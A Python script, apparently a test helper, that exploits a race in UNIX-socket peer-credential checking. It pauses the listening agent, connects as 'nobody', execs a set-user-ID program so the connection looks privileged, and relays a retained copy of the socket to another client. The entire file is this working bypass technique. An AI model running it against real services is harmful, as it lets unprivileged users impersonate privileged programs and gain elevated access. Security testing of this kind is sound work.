"""A connection whose maker has become somebody else: an unprivileged process connects to TARGET and executes
PROGRAM, a set-user-ID one, before the agent has looked at it; another process has a copy of the connection and
speaks for whoever connects to NEAR. AGENT is the process ID of the one that listens on TARGET, which is held
meanwhile.

usage: elevated.py TARGET NEAR AGENT PROGRAM
"""
import os
import signal
import socket
import sys
import threading
import time

target, near, agent, program = sys.argv[1:]
NOBODY = 65534
signal.alarm(300)


def pump(source, sink):
    try:
        while data := source.recv(65536):
            sink.sendall(data)
    except OSError:
        pass
    for end in (source, sink):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


listener = socket.socket(socket.AF_UNIX)
listener.bind(near)
listener.listen()
os.kill(int(agent), signal.SIGSTOP)
far = socket.socket(socket.AF_UNIX)
caller = os.fork()
if caller == 0:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    far.connect(target)
    os.execv(program, [program, "300"])
while os.readlink(f"/proc/{caller}/exe") != program:
    time.sleep(0.001)
os.kill(int(agent), signal.SIGCONT)
print("elevated", flush=True)
client, _ = listener.accept()
threading.Thread(target=pump, args=(client, far), daemon=True).start()
pump(far, client)
os.kill(caller, signal.SIGKILL)
